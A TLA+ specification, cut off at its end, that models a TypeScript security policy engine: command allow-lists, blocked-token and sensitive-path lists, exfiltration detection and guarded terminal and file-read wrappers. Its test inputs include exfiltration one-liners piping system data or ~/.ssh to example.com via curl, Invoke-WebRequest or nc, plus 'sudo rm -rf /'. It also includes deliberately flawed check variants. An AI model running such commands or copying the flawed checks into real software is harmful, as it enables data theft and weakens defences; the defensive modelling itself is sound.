---- MODULE Spec2Model ----
(***************************************************************************)
(* Security policy engine of the html-sample tool: the rule catalog, the   *)
(* normalizer, the command and path evaluators and the guarded capability  *)
(* wrappers (src/new/html-sample/src/security/policy.ts).                  *)
(*                                                                         *)
(* A JavaScript string is modelled as the sequence of its UTF-16 code      *)
(* units, so that trim, toLowerCase, replace, includes and the regular     *)
(* expressions of the source are computed character by character.  Every   *)
(* string literal of the source is written as its code units, with the     *)
(* text in the comment next to it.                                         *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    heap,            \* ref -> array of strings: the catalog arrays and every array a list* accessor returned
    callerRefs,      \* refs of the arrays handed out to callers
    startup,         \* the decisions taken for the probe inputs when the module was loaded
    fn,              \* the exported function called last ("none" before the first call)
    arg,             \* its string argument
    status,          \* "pending" | "returned" | "threw"
    ret,             \* the value returned, or the message of the error thrown
    executeCalls,    \* commands toolbox.terminal.execute was invoked with
    readTextCalls,   \* paths toolbox.fileSystem.readText was invoked with
    entry,           \* the entry point of createSecuritySuites that was invoked ("none": no invocation)
    pc,              \* where that invocation stands: the await it is suspended at
    host,            \* what the host offers: which methods exist on the capabilities
    currentTerminal, \* the glue's current terminal ("none": null)
    currentConnection, \* the glue's current connection (FALSE: null)
    results,         \* the results array of the suite in progress
    local,           \* the other locals of the suite in progress
    output,          \* textContent of the suite output elements
    suiteCalls,      \* capability calls made by the suite in progress, in order
    notifications,   \* notifications requested during the invocation, in order
    progress,        \* suites started and returned during the invocation, in order
    returned,        \* suite name -> the results array its run returned
    terminalOutput,  \* the "terminal-output" element of the page: whether it exists, and its textContent
    handled,         \* the terminal event delivered last: handler, payload, whether the handler threw, the text before
    openTerminals,   \* ids of the terminals the host created and has not closed
    closedTerminals, \* ids of the terminals whose close has completed
    ui,              \* terminal button handlers in flight: pending create calls, ids with a pending close, clicks so far
    store,           \* the host's settings store: key -> value ("absent": no such key)
    invoked          \* the shared handles and the settings store as they were when the entry point was invoked

policyVars == <<heap, callerRefs, startup, fn, arg, status, ret, executeCalls, readTextCalls>>

pageVars == <<terminalOutput, handled>>

terminalVars == <<openTerminals, closedTerminals, ui>>

glueVars == <<pageVars, terminalVars, store, invoked>>

suiteVars == <<entry, pc, host, currentTerminal, currentConnection, results, local, output,
               suiteCalls, notifications, progress, returned, glueVars>>

vars == <<heap, callerRefs, startup, fn, arg, status, ret, executeCalls, readTextCalls,
          entry, pc, host, currentTerminal, currentConnection, results, local, output,
          suiteCalls, notifications, progress, returned, terminalOutput, handled,
          openTerminals, closedTerminals, ui, store, invoked>>

-----------------------------------------------------------------------------
(* String primitives of the JavaScript runtime used by policy.ts           *)

\* String.prototype.trim strips WhiteSpace and LineTerminator code units.
IsWhiteSpace(c) ==
    \/ c \in 9..13
    \/ c \in {32, 160, 5760, 8232, 8233, 8239, 8287, 12288, 65279}
    \/ c \in 8192..8202

RECURSIVE TrimStart(_)
TrimStart(s) ==
    IF s # <<>> /\ IsWhiteSpace(Head(s)) THEN TrimStart(Tail(s)) ELSE s

RECURSIVE TrimEnd(_)
TrimEnd(s) ==
    IF s # <<>> /\ IsWhiteSpace(s[Len(s)]) THEN TrimEnd(SubSeq(s, 1, Len(s) - 1)) ELSE s

Trim(s) == TrimEnd(TrimStart(s))

\* String.prototype.toLowerCase on one code unit: ASCII and Latin-1 capitals,
\* and KELVIN SIGN (U+212A), whose lower case is "k".
LowerUnit(c) ==
    IF c \in 65..90 THEN c + 32
    ELSE IF c \in 192..222 /\ c # 215 THEN c + 32
    ELSE IF c = 8490 THEN 107
    ELSE c

ToLowerCase(s) == [i \in 1..Len(s) |-> LowerUnit(s[i])]

\* value.replace(/\\/g, "/")
ReplaceBackslashes(s) == [i \in 1..Len(s) |-> IF s[i] = 92 THEN 47 ELSE s[i]]

Includes(s, t) == \E i \in 0..(Len(s) - Len(t)) : SubSeq(s, i + 1, i + Len(t)) = t

StartsWith(s, t) == Len(s) >= Len(t) /\ SubSeq(s, 1, Len(t)) = t

EndsWith(s, t) == Len(s) >= Len(t) /\ SubSeq(s, Len(s) - Len(t) + 1, Len(s)) = t

\* "X".repeat(n)
Repeat(s, n) == [i \in 1..(n * Len(s)) |-> s[((i - 1) % Len(s)) + 1]]

\* A find that keeps the last matching token instead of the first
FirstIncluded_Last(tokens, text) ==
    LET hits == {i \in 1..Len(tokens) : Includes(text, tokens[i])}
    IN  IF hits = {} THEN 0 ELSE CHOOSE i \in hits : \A j \in hits : j <= i

\* tokens.find((token) => text.includes(token)): the index of the first
\* token the text includes, 0 when find returns undefined
FirstIncluded(tokens, text) ==
    IF \E i \in 1..Len(tokens) : Includes(text, tokens[i])
    THEN CHOOSE i \in 1..Len(tokens) :
            Includes(text, tokens[i]) /\ \A j \in 1..(i - 1) : ~Includes(text, tokens[j])
    ELSE 0

-----------------------------------------------------------------------------
(* Rule catalog (policy.ts lines 1-46)                                     *)

TERMINAL_ALLOWED_COMMANDS_literal == <<
    <<100, 105, 114>>,                                    \* "dir"
    <<108, 115, 32, 45, 108, 97>>,                                 \* "ls -la"
    <<101, 99, 104, 111, 32, 80, 80, 84, 66, 95, 83, 69, 67, 85, 82, 73, 84, 89, 95, 80, 82, 79, 66, 69>>,               \* "echo PPTB_SECURITY_PROBE"
    <<112, 119, 100>>,                                    \* "pwd"
    <<117, 110, 97, 109, 101, 32, 45, 97>>,                               \* "uname -a"
    <<101, 99, 104, 111, 32, 67, 72, 65, 73, 78, 95, 84, 69, 83, 84, 32, 38, 38, 32, 101, 99, 104, 111, 32, 83, 69, 67, 79, 78, 68, 95, 67, 79, 77, 77, 65, 78, 68>>, \* "echo CHAIN_TEST && echo SECOND_COMMAND"
    <<71, 101, 116, 45, 76, 111, 99, 97, 116, 105, 111, 110>>,                           \* "Get-Location"
    <<36, 80, 83, 86, 101, 114, 115, 105, 111, 110, 84, 97, 98, 108, 101, 46, 80, 83, 86, 101, 114, 115, 105, 111, 110, 46, 84, 111, 83, 116, 114, 105, 110, 103, 40, 41>>,   \* "$PSVersionTable.PSVersion.ToString()"
    <<87, 114, 105, 116, 101, 45, 79, 117, 116, 112, 117, 116, 32, 34, 67, 72, 65, 73, 78, 95, 84, 69, 83, 84, 34, 59, 32, 87, 114, 105, 116, 101, 45, 79, 117, 116, 112, 117, 116, 32, 34, 83, 69, 67, 79, 78, 68, 95, 67, 79, 77, 77, 65, 78, 68, 34>> \* 'Write-Output "CHAIN_TEST"; Write-Output "SECOND_COMMAND"'
>>

TERMINAL_BLOCKED_TOKENS_literal == <<
    <<114, 109, 32>>,                \* "rm "
    <<100, 101, 108, 32>>,               \* "del "
    <<102, 111, 114, 109, 97, 116>>,             \* "format"
    <<115, 117, 100, 111>>,               \* "sudo"
    <<99, 104, 109, 111, 100>>,              \* "chmod"
    <<99, 104, 111, 119, 110>>,              \* "chown"
    <<112, 111, 119, 101, 114, 115, 104, 101, 108, 108, 32, 45, 101, 110, 99>>,    \* "powershell -enc"
    <<105, 110, 118, 111, 107, 101, 45, 101, 120, 112, 114, 101, 115, 115, 105, 111, 110>>,  \* "invoke-expression"
    <<100, 111, 119, 110, 108, 111, 97, 100, 115, 116, 114, 105, 110, 103>>,     \* "downloadstring"
    <<99, 117, 114, 108, 32>>,              \* "curl "
    <<119, 103, 101, 116, 32>>,              \* "wget "
    <<105, 110, 118, 111, 107, 101, 45, 119, 101, 98, 114, 101, 113, 117, 101, 115, 116>>,  \* "invoke-webrequest"
    <<104, 116, 116, 112, 58, 47, 47>>,            \* "http://"
    <<104, 116, 116, 112, 115, 58, 47, 47>>,           \* "https://"
    <<124, 32, 99, 117, 114, 108>>,             \* "| curl"
    <<124, 32, 119, 103, 101, 116>>,             \* "| wget"
    <<98, 97, 115, 101, 54, 52>>,             \* "base64"
    <<115, 99, 112, 32>>,               \* "scp "
    <<115, 115, 104, 32>>,               \* "ssh "
    <<105, 100, 95, 114, 115, 97>>,             \* "id_rsa"
    <<46, 115, 115, 104>>,               \* ".ssh"
    <<115, 121, 115, 116, 101, 109, 95, 112, 114, 111, 102, 105, 108, 101, 114>>,    \* "system_profiler"
    <<119, 109, 105, 99>>,               \* "wmic"
    <<112, 114, 111, 99, 100, 117, 109, 112>>,           \* "procdump"
    <<109, 101, 109, 111, 114, 121>>,             \* "memory"
    <<100, 117, 109, 112>>                \* "dump"
>>

FILE_PATH_BLOCK_LIST_literal == <<
    <<47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100>>,            \* "/etc/passwd"
    <<47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119>>,            \* "/etc/shadow"
    <<47, 101, 116, 99, 47, 104, 111, 115, 116, 115>>,             \* "/etc/hosts"
    <<47, 118, 97, 114, 47, 108, 111, 103, 47, 115, 121, 115, 116, 101, 109, 46, 108, 111, 103>>,    \* "/var/log/system.log"
    <<47, 46, 115, 115, 104, 47>>,                 \* "/.ssh/"
    <<92, 46, 115, 115, 104, 92>>,               \* "\\.ssh\\"  (backslash .ssh backslash)
    <<105, 100, 95, 114, 115, 97>>,                 \* "id_rsa"
    <<107, 110, 111, 119, 110, 95, 104, 111, 115, 116, 115>>,            \* "known_hosts"
    <<99, 58, 92, 119, 105, 110, 100, 111, 119, 115, 92, 115, 121, 115, 116, 101, 109, 51, 50>>   \* "c:\\windows\\system32"  (c:\windows\system32)
>>

LOCAL_DATA_TOKENS == <<
    <<117, 110, 97, 109, 101>>, <<115, 121, 115, 116, 101, 109, 95, 112, 114, 111, 102, 105, 108, 101, 114>>, <<119, 109, 105, 99>>, <<105, 112, 99, 111, 110, 102, 105, 103>>, <<105, 102, 99, 111, 110, 102, 105, 103>>,  \* "uname" "system_profiler" "wmic" "ipconfig" "ifconfig"
    <<99, 97, 116, 32>>, <<116, 121, 112, 101, 32>>, <<103, 101, 116, 45, 99, 111, 110, 116, 101, 110, 116>>, <<101, 110, 118>>, <<36, 101, 110, 118, 58>>,               \* "cat " "type " "get-content" "env" "$env:"
    <<119, 104, 111, 97, 109, 105>>, <<46, 115, 115, 104>>, <<105, 100, 95, 114, 115, 97>>                                        \* "whoami" ".ssh" "id_rsa"
>>

NETWORK_EGRESS_TOKENS == <<
    <<99, 117, 114, 108, 32>>, <<119, 103, 101, 116, 32>>, <<105, 110, 118, 111, 107, 101, 45, 119, 101, 98, 114, 101, 113, 117, 101, 115, 116>>, <<104, 116, 116, 112, 58, 47, 47>>, <<104, 116, 116, 112, 115, 58, 47, 47>>, \* "curl " "wget " "invoke-webrequest" "http://" "https://"
    <<102, 116, 112, 58, 47, 47>>, <<115, 99, 112, 32>>, <<110, 99, 32>>, <<110, 101, 116, 99, 97, 116>>                               \* "ftp://" "scp " "nc " "netcat"
>>

\* The three catalog arrays the list* accessors read live in the heap under
\* these references; an array a list* accessor returns gets a fresh one.
AllowedCommandsRef == 1
BlockedTokensRef == 2
PathBlockListRef == 3

CatalogRefs == {AllowedCommandsRef, BlockedTokensRef, PathBlockListRef}

TERMINAL_ALLOWED_COMMANDS == heap[AllowedCommandsRef]
TERMINAL_BLOCKED_TOKENS == heap[BlockedTokensRef]
FILE_PATH_BLOCK_LIST == heap[PathBlockListRef]

-----------------------------------------------------------------------------
(* Evaluators (policy.ts lines 60-127)                                     *)

\* string | null
Null == [isNull |-> TRUE, text |-> <<>>]
Str(text) == [isNull |-> FALSE, text |-> text]

MaxCommandLength == 200

ReasonEmpty == <<67, 111, 109, 109, 97, 110, 100, 32, 105, 115, 32, 101, 109, 112, 116, 121>>
ReasonTooLong == <<67, 111, 109, 109, 97, 110, 100, 32, 101, 120, 99, 101, 101, 100, 115, 32, 109, 97, 120, 105, 109, 117, 109, 32, 97, 108, 108, 111, 119, 101, 100, 32, 108, 101, 110, 103, 116, 104>>
ReasonMultiline == <<77, 117, 108, 116, 105, 108, 105, 110, 101, 32, 99, 111, 109, 109, 97, 110, 100, 115, 32, 97, 114, 101, 32, 110, 111, 116, 32, 97, 108, 108, 111, 119, 101, 100>>
ReasonControl == <<67, 111, 110, 116, 114, 111, 108, 32, 99, 104, 97, 114, 97, 99, 116, 101, 114, 115, 32, 97, 114, 101, 32, 110, 111, 116, 32, 97, 108, 108, 111, 119, 101, 100>>
ReasonExfiltration == <<80, 111, 116, 101, 110, 116, 105, 97, 108, 32, 108, 111, 99, 97, 108, 45, 100, 97, 116, 97, 32, 101, 120, 102, 105, 108, 116, 114, 97, 116, 105, 111, 110, 32, 112, 97, 116, 116, 101, 114, 110, 32, 100, 101, 116, 101, 99, 116, 101, 100>>
ReasonBlockedTokenPrefix == <<66, 108, 111, 99, 107, 101, 100, 32, 116, 111, 107, 101, 110, 32, 100, 101, 116, 101, 99, 116, 101, 100, 58, 32>>
ReasonNotAllowListed == <<67, 111, 109, 109, 97, 110, 100, 32, 105, 115, 32, 110, 111, 116, 32, 111, 110, 32, 97, 108, 108, 111, 119, 45, 108, 105, 115, 116>>
ReasonNotAbsolute == <<79, 110, 108, 121, 32, 97, 98, 115, 111, 108, 117, 116, 101, 32, 112, 97, 116, 104, 115, 32, 97, 114, 101, 32, 97, 108, 108, 111, 119, 101, 100>>
ReasonTraversal == <<80, 97, 116, 104, 32, 116, 114, 97, 118, 101, 114, 115, 97, 108, 32, 115, 101, 103, 109, 101, 110, 116, 115, 32, 97, 114, 101, 32, 110, 111, 116, 32, 97, 108, 108, 111, 119, 101, 100>>
ReasonSensitivePathPrefix == <<83, 101, 110, 115, 105, 116, 105, 118, 101, 32, 112, 97, 116, 104, 32, 112, 97, 116, 116, 101, 114, 110, 32, 100, 101, 116, 101, 99, 116, 101, 100, 58, 32>>

normalizeForPolicy(value) == ToLowerCase(ReplaceBackslashes(Trim(value)))

\* /^([a-zA-Z]:[\\/]|\/)/.test(filePath.trim())
isAbsolutePath(filePath) ==
    LET p == Trim(filePath)
    IN  \/ Len(p) >= 3 /\ (p[1] \in 97..122 \/ p[1] \in 65..90) /\ p[2] = 58 /\ p[3] \in {92, 47}
        \/ Len(p) >= 1 /\ p[1] = 47

hasPathTraversalSegment(normalizedPath) ==
    \/ Includes(normalizedPath, <<47, 46, 46, 47>>)
    \/ EndsWith(normalizedPath, <<47, 46, 46>>)
    \/ StartsWith(normalizedPath, <<46, 46, 47>>)

\* /[\r\n]/.test(s)
HasLineBreak(s) == \E i \in 1..Len(s) : s[i] \in {13, 10}

\* A control-character class that reaches one code unit too far (the space)
HasControlCharacter_UpToSpace(s) == \E i \in 1..Len(s) : s[i] \in 0..32 \/ s[i] = 127

\* /[\u0000-\u001F\u007F]/.test(s)
HasControlCharacter(s) == \E i \in 1..Len(s) : s[i] \in 0..31 \/ s[i] = 127

\* An allow-list that matches a prefix of the command instead of the whole of it
SetHas_Prefix(set, value) == \E i \in 1..Len(set) : StartsWith(value, set[i])

\* Set.prototype.has on the allow-list
SetHas(set, value) == \E i \in 1..Len(set) : set[i] = value

\* every() where some() is meant
SomeIncludes_Every(tokens, low) == \A i \in 1..Len(tokens) : Includes(low, tokens[i])

\* tokens.some((token) => low.includes(token))
SomeIncludes(tokens, low) == \E i \in 1..Len(tokens) : Includes(low, tokens[i])

getBlockedCommandReason(command) ==
    LET normalized == Trim(command)
        low == normalizeForPolicy(normalized)
        hasLocalDataSignal == SomeIncludes(LOCAL_DATA_TOKENS, low)
        hasNetworkSignal == SomeIncludes(NETWORK_EGRESS_TOKENS, low)
        blockedToken == FirstIncluded(TERMINAL_BLOCKED_TOKENS, low)
    IN  IF normalized = <<>> THEN Str(ReasonEmpty)
        ELSE IF Len(normalized) > MaxCommandLength THEN Str(ReasonTooLong)
        ELSE IF HasLineBreak(normalized) THEN Str(ReasonMultiline)
        ELSE IF HasControlCharacter(normalized) THEN Str(ReasonControl)
        ELSE IF hasLocalDataSignal /\ hasNetworkSignal THEN Str(ReasonExfiltration)
        ELSE IF SetHas(TERMINAL_ALLOWED_COMMANDS, normalized) THEN Null
        \* if (blockedToken): a found token that is the empty string is falsy
        ELSE IF blockedToken # 0 /\ TERMINAL_BLOCKED_TOKENS[blockedToken] # <<>>
             THEN Str(ReasonBlockedTokenPrefix \o TERMINAL_BLOCKED_TOKENS[blockedToken])
        ELSE Str(ReasonNotAllowListed)

getBlockedPathReason(filePath) ==
    LET normalized == normalizeForPolicy(filePath)
        blockedMatch == FirstIncluded(FILE_PATH_BLOCK_LIST, normalized)
    IN  IF ~isAbsolutePath(filePath) THEN Str(ReasonNotAbsolute)
        ELSE IF hasPathTraversalSegment(normalized) THEN Str(ReasonTraversal)
        ELSE IF blockedMatch # 0 /\ FILE_PATH_BLOCK_LIST[blockedMatch] # <<>>
             THEN Str(ReasonSensitivePathPrefix \o FILE_PATH_BLOCK_LIST[blockedMatch])
        ELSE Null

-----------------------------------------------------------------------------
(* Catalog accessors (policy.ts lines 48-58): each returns a new array     *)

\* The reference a newly created array gets
NewRef == CHOOSE r \in 1..(Cardinality(DOMAIN heap) + 1) : r \notin DOMAIN heap

\* The catalog array itself handed out
CopyOf_Alias(ref) == [heap |-> heap, ref |-> ref]

\* Array.from(set) and [...array]: a new array with the same elements
CopyOf(ref) == [heap |-> (NewRef :> heap[ref]) @@ heap, ref |-> NewRef]

listTerminalAllowedCommands == CopyOf(AllowedCommandsRef)

listTerminalBlockedTokens == CopyOf(BlockedTokensRef)

listFilePathBlockedPatterns == CopyOf(PathBlockListRef)

-----------------------------------------------------------------------------
(* Guarded capability wrappers (policy.ts lines 129-145)                   *)

\* if (blockedReason): null and the empty string are falsy
Truthy(r) == ~r.isNull /\ r.text # <<>>

CommandBlockedPrefix == <<84, 101, 114, 109, 105, 110, 97, 108, 32, 99, 111, 109, 109, 97, 110, 100, 32, 98, 108, 111, 99, 107, 101, 100, 32, 98, 121, 32, 112, 111, 108, 105, 99, 121, 46, 32>>
PathBlockedPrefix == <<70, 105, 108, 101, 32, 112, 97, 116, 104, 32, 98, 108, 111, 99, 107, 101, 100, 32, 98, 121, 32, 112, 111, 108, 105, 99, 121, 46, 32>>
\* what a failing capability rejects with, and what readText resolves to
CapabilityError == <<99, 97, 112, 97, 98, 105, 108, 105, 116, 121, 32, 102, 97, 105, 108, 101, 100>>
FileText == <<102, 105, 108, 101, 32, 116, 101, 120, 116>>

\* The calls made on the capability and the way the promise settles;
\* capabilityRejects is the behaviour of toolbox.terminal.execute.
executeCommandWithPolicyGuard(terminalId, command, capabilityRejects) ==
    LET blockedReason == getBlockedCommandReason(command)
    IN  IF Truthy(blockedReason)
        THEN [calls |-> {}, status |-> "threw", value |-> Str(CommandBlockedPrefix \o blockedReason.text)]
        ELSE [calls |-> {<<terminalId, command>>},
              status |-> IF capabilityRejects THEN "threw" ELSE "returned",
              value |-> IF capabilityRejects THEN Str(CapabilityError) ELSE Null]

\* The read issued before the policy is asked
readTextWithPolicyGuard_ReadFirst(filePath, capabilityRejects) ==
    LET blockedReason == getBlockedPathReason(filePath)
    IN  [calls |-> {filePath},
         status |-> IF Truthy(blockedReason) \/ capabilityRejects THEN "threw" ELSE "returned",
         value |-> IF Truthy(blockedReason) THEN Str(PathBlockedPrefix \o blockedReason.text)
                   ELSE IF capabilityRejects THEN Str(CapabilityError) ELSE Str(FileText)]

readTextWithPolicyGuard(filePath, capabilityRejects) ==
    LET blockedReason == getBlockedPathReason(filePath)
    IN  IF Truthy(blockedReason)
        THEN [calls |-> {}, status |-> "threw", value |-> Str(PathBlockedPrefix \o blockedReason.text)]
        ELSE [calls |-> {filePath},
              status |-> IF capabilityRejects THEN "threw" ELSE "returned",
              value |-> IF capabilityRejects THEN Str(CapabilityError) ELSE Str(FileText)]

-----------------------------------------------------------------------------
(* Result of a check (policy.ts lines 162-172)                             *)

assertCommandBlockedWithToken(name, command, expectedToken, severity) ==
    LET reason == getBlockedCommandReason(command)
        pass == /\ ~reason.isNull
                /\ Includes(normalizeForPolicy(reason.text), normalizeForPolicy(expectedToken))
    IN  [name |-> name, status |-> IF pass THEN "pass" ELSE "fail", severity |-> severity,
         details |-> IF pass
                     THEN <<67, 111, 109, 109, 97, 110, 100, 32, 98, 108, 111, 99, 107, 101, 100, 32, 119, 105, 116, 104, 32, 101, 120, 112, 101, 99, 116, 101, 100, 32, 116, 111, 107, 101, 110, 58, 32>> \o expectedToken
                     ELSE <<69, 120, 112, 101, 99, 116, 101, 100, 32, 116, 111, 107, 101, 110, 32, 39>> \o expectedToken
                          \o <<39, 32, 110, 111, 116, 32, 102, 111, 117, 110, 100, 32, 105, 110, 32, 98, 108, 111, 99, 107, 32, 114, 101, 97, 115, 111, 110, 46, 32, 82, 101, 97, 115, 111, 110, 58, 32>>
                          \o (IF Truthy(reason) THEN reason.text ELSE <<110, 111, 110, 101>>)]

-----------------------------------------------------------------------------
(* Inputs                                                                  *)

\* Longest run of white space put before and after an input
MaxPad == 1
\* Arrays callers may hold at a time
MaxCallerArrays == 1

PadChars == {32, 10}      \* " " and "\n"

RECURSIVE PadsOfLength(_)
PadsOfLength(n) ==
    IF n = 0 THEN {<<>>} ELSE {<<c>> \o p : c \in PadChars, p \in PadsOfLength(n - 1)}

Pads == UNION {PadsOfLength(n) : n \in 0..MaxPad}

Padded(bases) == {p \o b \o q : p \in Pads, b \in bases, q \in Pads}

\* `echo SAFE_TOKEN_PROBE ${token} SAFE_END` (policy.ts line 290)
SyntheticCommand(token) == <<101, 99, 104, 111, 32, 83, 65, 70, 69, 95, 84, 79, 75, 69, 78, 95, 80, 82, 79, 66, 69, 32>> \o token \o <<32, 83, 65, 70, 69, 95, 69, 78, 68>>

\* `echo ${"X".repeat(220)}`
OverlongCommand == <<101, 99, 104, 111, 32>> \o Repeat(<<88>>, 220)

CurlExfilCommand == <<117, 110, 97, 109, 101, 32, 45, 97, 32, 124, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109, 47, 99, 111, 108, 108, 101, 99, 116, 32, 45, 45, 100, 97, 116, 97, 45, 98, 105, 110, 97, 114, 121, 32, 64, 45>>
MacInventoryCommand == <<115, 121, 115, 116, 101, 109, 95, 112, 114, 111, 102, 105, 108, 101, 114, 32, 83, 80, 72, 97, 114, 100, 119, 97, 114, 101, 68, 97, 116, 97, 84, 121, 112, 101, 32, 124, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109, 47, 104, 119, 32, 45, 45, 100, 97, 116, 97, 45, 98, 105, 110, 97, 114, 121, 32, 64, 45>>
PsExfilCommand == <<71, 101, 116, 45, 67, 104, 105, 108, 100, 73, 116, 101, 109, 32, 36, 72, 79, 77, 69, 92, 46, 115, 115, 104, 32, 124, 32, 73, 110, 118, 111, 107, 101, 45, 87, 101, 98, 82, 101, 113, 117, 101, 115, 116, 32, 104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109, 47, 117, 112, 108, 111, 97, 100, 32, 45, 77, 101, 116, 104, 111, 100, 32, 80, 111, 115, 116>>
NewlineInjectionCommand == <<101, 99, 104, 111, 32, 115, 97, 102, 101, 10, 99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109>>
ControlCharCommand == <<101, 99, 104, 111, 32, 111, 107, 7>>
ProbeCommand == <<101, 99, 104, 111, 32, 80, 80, 84, 66, 95, 83, 69, 67, 85, 82, 73, 84, 89, 95, 80, 82, 79, 66, 69>>
\* A path the policy allows
SensitiveReadPath_Allowed == <<47, 116, 109, 112, 47, 110, 111, 116, 101, 115, 46, 116, 120, 116>>
SensitiveReadPath == <<47, 85, 115, 101, 114, 115, 47, 116, 101, 115, 116, 47, 46, 115, 115, 104, 47, 105, 100, 95, 114, 115, 97>>
RelativePath == <<114, 101, 108, 97, 116, 105, 118, 101, 47, 99, 111, 110, 102, 105, 103, 46, 106, 115, 111, 110>>
TraversalPath == <<47, 116, 109, 112, 47, 46, 46, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100>>
WindowsSensitivePath == <<67, 58, 92, 85, 115, 101, 114, 115, 92, 100, 101, 109, 111, 92, 46, 115, 115, 104, 92, 107, 110, 111, 119, 110, 95, 104, 111, 115, 116, 115>>

ToSet(seq) == {seq[i] : i \in 1..Len(seq)}

CommandBases ==
    ToSet(TERMINAL_ALLOWED_COMMANDS_literal)
    \cup {SyntheticCommand(t) : t \in ToSet(TERMINAL_BLOCKED_TOKENS_literal)}
    \cup {CurlExfilCommand, MacInventoryCommand, PsExfilCommand, NewlineInjectionCommand,
          ControlCharCommand, OverlongCommand}
    \cup {<<>>,
          <<108, 115>>,                                   \* "ls"
          <<101, 99, 104, 111, 32, 111, 107, 32, 38, 38, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 99, 111, 109>>,   \* "echo ok && curl http://example.com"
          <<80, 87, 68>>,                                  \* "PWD"
          <<76, 115, 32, 45, 76, 97>>,                               \* "Ls -La"
          <<112, 119, 100, 32, 38, 38, 32, 119, 104, 111, 97, 109, 105>>,                        \* "pwd && whoami"
          <<108, 115, 32, 45, 108, 97, 32, 47, 116, 109, 112>>,                          \* "ls -la /tmp"
          <<115, 117, 100, 111, 32, 114, 109, 32, 45, 114, 102, 32, 47>>,                        \* "sudo rm -rf /"
          <<83, 85, 68, 79, 32, 114, 101, 98, 111, 111, 116>>,                          \* "SUDO reboot"
          <<99, 97, 116, 32, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100>>,                      \* "cat /etc/passwd"
          <<117, 110, 97, 109, 101, 32, 45, 97, 32, 124, 32, 110, 99, 32, 49, 48, 46, 48, 46, 48, 46, 49, 32, 57, 48, 48, 48>>,          \* "uname -a | nc 10.0.0.1 9000"
          <<87, 72, 79, 65, 77, 73, 32, 124, 32, 78, 69, 84, 67, 65, 84, 32, 101, 118, 105, 108>>,                 \* "WHOAMI | NETCAT evil"
          <<101, 99, 104, 111, 32, 111, 107, 9, 100, 111, 110, 101>>,                        \* "echo ok\tdone"
          <<101, 99, 104, 111, 32, 111, 107, 13, 100, 111, 110, 101>>,                        \* "echo ok\rdone"
          <<112, 119, 100, 9>>,                                \* "pwd\t"
          <<112, 119, 100, 160>>,                            \* "pwd\u00A0"
          <<112, 119, 100, 127>>,                            \* "pwd\u007F"
          <<101, 99, 104, 111, 32, 104, 101, 108, 108, 111>>,                           \* "echo hello"
          <<101, 99, 104, 111, 32>> \o Repeat(<<88>>, 195),          \* 200 code units
          <<101, 99, 104, 111, 32>> \o Repeat(<<88>>, 196),          \* 201 code units
          <<99, 117, 114, 108, 32>> \o Repeat(<<88>>, 220),          \* over-long and holding a blocked token
          <<117, 110, 97, 109, 101, 32>> \o Repeat(<<88>>, 220) \o <<32, 124, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120>>,   \* over-long and an exfiltration pair
          <<101, 99, 104, 111, 32, 7>> \o Repeat(<<88>>, 220),    \* over-long and a control character
          <<117, 110, 97, 109, 101, 10, 124, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120>>,               \* a line break and an exfiltration pair
          <<117, 110, 97, 109, 101, 7, 32, 124, 32, 99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120>>}          \* a control character and an exfiltration pair

CommandInputs == Padded(CommandBases)

\* The same text in capitals, and with the other separator
ToUpperCase(s) == [i \in 1..Len(s) |-> IF s[i] \in 97..122 THEN s[i] - 32 ELSE s[i]]
WithBackslashes(s) == [i \in 1..Len(s) |-> IF s[i] = 47 THEN 92 ELSE s[i]]

Variants(s) ==
    {s, ToUpperCase(s), ReplaceBackslashes(s), WithBackslashes(s),
     ToUpperCase(ReplaceBackslashes(s)), ToUpperCase(WithBackslashes(s))}

\* Paths that hold a blocked pattern somewhere after an absolute (or no) root
PatternPaths ==
    {pre \o pat \o suf :
        pre \in {<<>>, <<67, 58>>, <<47, 109, 110, 116>>},
        pat \in ToSet(FILE_PATH_BLOCK_LIST_literal),
        suf \in {<<>>, <<47, 120>>}}

PathBases ==
    PatternPaths
    \cup {SensitiveReadPath, RelativePath, TraversalPath, WindowsSensitivePath}
    \cup {<<>>,
          <<47, 116, 109, 112, 47, 100, 97, 116, 97, 46, 116, 120, 116>>,                        \* "/tmp/data.txt"
          <<67, 58, 92, 87, 105, 110, 100, 111, 119, 115, 92, 83, 121, 115, 116, 101, 109, 51, 50, 92, 99, 111, 110, 102, 105, 103, 92, 83, 65, 77>>,   \* C:\Windows\System32\config\SAM
          <<67, 58, 47, 85, 115, 101, 114, 115, 47, 100, 101, 109, 111, 47, 68, 111, 99, 117, 109, 101, 110, 116, 115, 47, 97, 46, 116, 120, 116>>,        \* "C:/Users/demo/Documents/a.txt"
          <<47, 116, 109, 112, 47, 46, 46>>,                              \* "/tmp/.."
          <<46, 46, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100>>,                        \* "../etc/passwd"
          <<67, 58, 92, 100, 97, 116, 97, 92, 46, 46, 92, 115, 101, 99, 114, 101, 116, 46, 116, 120, 116>>,             \* C:\data\..\secret.txt
          <<68, 58, 114, 101, 108, 97, 116, 105, 118, 101, 46, 116, 120, 116>>,                       \* "D:relative.txt"
          <<49, 58, 47, 100, 97, 116, 97>>,                              \* "1:/data"
          <<47, 104, 111, 109, 101, 47, 117, 47, 46, 46, 104, 105, 100, 100, 101, 110>>,                     \* "/home/u/..hidden"
          <<47, 104, 111, 109, 101, 47, 117, 47, 46, 115, 115, 104, 99, 111, 110, 102, 105, 103>>,                   \* "/home/u/.sshconfig"
